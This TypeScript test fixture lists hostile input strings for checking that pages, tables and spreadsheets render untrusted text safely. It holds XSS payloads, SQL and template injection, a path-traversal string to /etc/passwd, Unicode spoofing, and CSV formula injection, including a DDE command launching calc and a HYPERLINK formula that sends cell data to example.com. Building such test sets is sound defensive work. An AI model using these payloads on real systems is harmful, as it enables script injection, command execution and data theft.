/** A text that may break a page, a table or a spreadsheet. */
export interface HostileText {
  /** The attack in a word or two; unique. */
  readonly name: string;
  readonly text: string;
}

/**
 * A payload that runs sets `window.__pwned`. A browser test fails when it is there, or when a dialog opens.
 */
const RUN = "window.__pwned=1";

const MARKUP: readonly HostileText[] = [
  { name: "script", text: `<script>${RUN}</script>` },
  { name: "script end", text: `</script><script>${RUN}</script>` },
  { name: "script end alone", text: "</script>" },
  { name: "image error", text: `<img src=x onerror="${RUN}">` },
  { name: "image error unquoted", text: `"><img src=x onerror=${RUN}>` },
  { name: "svg load", text: `<svg onload=${RUN}>` },
  { name: "svg animate", text: `<svg><animate onbegin=${RUN} attributeName=x dur=1s>` },
  { name: "svg script", text: `<svg><script href="data:,${RUN}"/></svg>` },
  { name: "math link", text: `<math><a xlink:href="javascript:${RUN}">x</a></math>` },
  { name: "iframe", text: `<iframe srcdoc="<script>parent.__pwned=1</script>"></iframe>` },
  { name: "details toggle", text: `<details open ontoggle=${RUN}>` },
  { name: "focus", text: `<input autofocus onfocus=${RUN}>` },
  { name: "attribute break", text: `" autofocus onfocus="${RUN}` },
  { name: "attribute break single", text: `' onmouseover='${RUN}` },
  { name: "textarea end", text: `</textarea><script>${RUN}</script>` },
  { name: "title end", text: `</title><script>${RUN}</script>` },
  { name: "comment end", text: `--><script>${RUN}</script><!--` },
  { name: "cdata", text: `<![CDATA[<script>${RUN}</script>]]>` },
  { name: "base", text: `<base href="https://example.com/">` },
  { name: "meta refresh", text: `<meta http-equiv="refresh" content="0;url=https://example.com/">` },
  { name: "form", text: `<form action="https://example.com/"><button>Sign in</button></form>` },
  { name: "style element", text: "<style>*{display:none!important}</style>" },
  { name: "entities", text: "&lt;script&gt;&#60;b&#62;&amp;amp;&nbsp;&zwnj;" },
];

const ADDRESSES: readonly HostileText[] = [
  { name: "javascript address", text: `javascript:${RUN}` },
  { name: "javascript address mixed", text: `JaVaScRiPt:${RUN}//` },
  { name: "javascript alias", text: "javascript:void" },
  { name: "data address", text: `data:text/html,<script>${RUN}</script>` },
  { name: "foreign address", text: "https://example.com/sign-in" },
  { name: "path climbing", text: "a/../../../etc/passwd" },
  { name: "route lookalike", text: "admin/v1/models" },
];

const CODE: readonly HostileText[] = [
  { name: "braces", text: "{{constructor.constructor('window.__pwned=1')()}}" },
  { name: "dollar braces", text: "${window.__pwned=1}" },
  { name: "percent tags", text: "<%= 7*7 %>{% debug %}#{7*7}" },
  { name: "backtick end", text: "`;window.__pwned=1;`" },
  { name: "string end", text: "\\';window.__pwned=1;//" },
  { name: "style injection", text: "red;}body{display:none}/*" },
  { name: "style address", text: "url(https://example.com/x.png)" },
  { name: "class names", text: "hidden fixed inset-0 opacity-0" },
  { name: "database", text: `'; DROP TABLE event; --` },
  { name: "format marks", text: "%s%n%d%x {0} $1 $& %00 %2e%2e" },
  { name: "json", text: `","role":"admin","x":"` },
];

const FORMULAS: readonly HostileText[] = [
  { name: "formula command", text: "=cmd|'/c calc'!A0" },
  { name: "formula link", text: `=HYPERLINK("https://example.com/?"&A1,"open")` },
  { name: "formula plus", text: "+1+1" },
  { name: "formula at", text: "@SUM(1+9)*cmd" },
  { name: "formula fullwidth", text: "＝1＋1" },
];

const WORDS: readonly HostileText[] = [
  { name: "prototype", text: "__proto__" },
  { name: "constructor", text: "constructor" },
  { name: "has own", text: "hasOwnProperty" },
  { name: "null", text: "null" },
  { name: "undefined", text: "undefined" },
  { name: "not a number", text: "NaN" },
  { name: "object", text: "[object Object]" },
];

const UNICODE: readonly HostileText[] = [
  { name: "right to left", text: "invoice\u202Egnp.exe" },
  { name: "isolates", text: "\u2067admin\u2066 \u2069\u202D123\u202C" },
  { name: "arabic and hebrew", text: "مرحبا שלום abc 123" },
  { name: "zero width", text: "ad\u200Bmin\u200D\u2060\uFEFF" },
  { name: "homoglyphs", text: "аdmіn ɡpt‐5" },
  { name: "line separators", text: "one\u2028two\u2029three" },
  { name: "emoji family", text: "👩‍👩‍👧‍👦🏳️‍🌈👍🏽🇩🇪" },
  { name: "combining stack", text: `z${"\u0300\u0316\u0335\u0489".repeat(24)}algo` },
  { name: "astral", text: "𝕬𝖉𝖒𝖎𝖓 𠜎𠜱" },
];

const LENGTHS: readonly HostileText[] = [
  { name: "long word", text: "A".repeat(5_000) },
  { name: "long wide word", text: "漢".repeat(5_000) },
  { name: "blanks", text: `a${" ".repeat(60)}b` },
];

/** Every one of them is a text that some field takes; none holds a control character, which no field but a client takes. */
export const HOSTILE_TEXTS: readonly HostileText[] = [
  ...MARKUP,
  ...ADDRESSES,
  ...CODE,
  ...FORMULAS,
  ...WORDS,
  ...UNICODE,
  ...LENGTHS,
];

/** Clients send these as well, as far as a header can carry them. */
export const CONTROL_TEXTS: readonly HostileText[] = [
  { name: "tab", text: "=1+1\tcell" },
  { name: "escape sequence", text: "\u001B[31mred\u001B[2J" },
  { name: "second control set", text: "a\u0085b\u009Bc" },
];
